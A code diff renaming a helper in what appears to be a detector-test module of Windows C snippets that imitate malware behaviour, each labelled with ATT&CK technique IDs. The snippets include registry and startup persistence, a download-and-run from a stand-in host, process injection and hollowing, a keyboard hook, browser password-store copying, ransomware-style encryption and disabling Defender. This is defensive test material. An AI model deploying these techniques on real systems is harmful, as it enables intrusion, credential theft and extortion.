@@ -1,9 +1,9 @@
 // Programs for Windows, compiled with mingw-w64 or written in a script's language, that do what malware does and harm
 // nothing: in the guest, to the guest's invented files.
 import type { Trait } from './trait.ts'
-import { c } from './windows-program.ts'
+import { windowsProgram } from './windows-program.ts'
 
-const RUN_KEY = c(`
+const RUN_KEY = windowsProgram(`
   HKEY key;
   CopyFileA(me, "C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\update.exe", FALSE);
   RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, 0, 0, KEY_SET_VALUE, 0, &key, 0);
@@ -30,7 +30,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: writes a program and runs it without a window',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   CopyFileA("C:\\\\windows\\\\system32\\\\hostname.exe", "C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\svc7.exe", FALSE);
   start("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\svc7.exe -s", CREATE_NO_WINDOW, &made);
   WaitForSingleObject(made.hProcess, 5000);`),
@@ -41,7 +41,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: fetches a program and starts it',
     language: 'windows',
-    source: c(
+    source: windowsProgram(
       `
   HINTERNET net = InternetOpenA("Mozilla/5.0", 0, 0, 0, 0);
   HINTERNET page = InternetOpenUrlA(net, "http://cdn.parcel-track.example/u/p.exe", 0, 0, INTERNET_FLAG_RELOAD, 0);
@@ -60,7 +60,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: makes its own child run code that it wrote there',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   SIZE_T done;
   start("notepad.exe", CREATE_SUSPENDED, &made);
   void *place = VirtualAllocEx(made.hProcess, 0, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
@@ -75,7 +75,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: empties a process and fills it with other code',
     language: 'windows',
-    source: c(
+    source: windowsProgram(
       `
   SIZE_T done;
   CONTEXT context = {0};
@@ -97,7 +97,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: installs itself as a service',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   SC_HANDLE manager = OpenSCManagerA(0, 0, SC_MANAGER_ALL_ACCESS);
   SC_HANDLE service = CreateServiceA(manager, "WinNetHelper", "Windows Network Helper", SERVICE_ALL_ACCESS,
     SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, 0, "C:\\\\ProgramData\\\\nethelper.exe", 0, 0, 0, 0, 0);
@@ -109,7 +109,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: finds out where it is',
     language: 'windows',
-    source: c(
+    source: windowsProgram(
       `
   char text[256];
   DWORD size = sizeof text;
@@ -130,7 +130,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: deletes itself when it has ended',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   char command[600];
   sprintf(command, "cmd.exe /c ping 127.0.0.1 -n 2 >nul & del /f /q \\"%s\\"", me);
   start(command, CREATE_NO_WINDOW, &made);`),
@@ -141,7 +141,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: gives a file an old date',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   SYSTEMTIME old = {2009, 7, 2, 14, 1, 14, 30, 0};
   FILETIME time;
   write_file("C:\\\\windows\\\\system32\\\\winlogd.dll", "MZ nothing");
@@ -155,7 +155,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: looks for debuggers and virtual machines',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   HKEY key;
   BOOL debugged;
   IsDebuggerPresent();
@@ -171,7 +171,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: listens to the keyboard',
     language: 'windows',
-    source: c(
+    source: windowsProgram(
       `
   HHOOK hook = SetWindowsHookExA(WH_KEYBOARD_LL, heard, GetModuleHandleA(0), 0);
   for (int key = 8; key < 60; key++) GetAsyncKeyState(key);
@@ -184,7 +184,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: takes the passwords that browsers keep',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   CopyFileA("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data",
     "C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\a.tmp", FALSE);
   CreateFileA("C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Mozilla\\\\Firefox\\\\Profiles\\\\k3x1w8ab.default\\\\logins.json",
@@ -195,7 +195,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: encrypts documents and asks for money',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   WIN32_FIND_DATAA found;
   HANDLE list = FindFirstFileA("C:\\\\users\\\\anna\\\\Documents\\\\*", &found);
   do {
@@ -227,7 +227,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: puts itself into the startup folder',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   CopyFileA(me, "C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\StartUp\\\\sync.exe", FALSE);`),
     shows: { trace_writes_startup_folder: ['T1547.001'] },
     label: 'suspicious',
@@ -235,7 +235,7 @@ export const WINDOWS: readonly Trait[] = [
   {
     name: 'Windows: switches the virus scanner off',
     language: 'windows',
-    source: c(`
+    source: windowsProgram(`
   DWORD one = 1;
   RegSetKeyValueA(HKEY_LOCAL_MACHINE, "SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender", "DisableAntiSpyware", REG_DWORD, &one, 4);`),
     shows: { trace_weakens_defences: ['T1562.001'] },
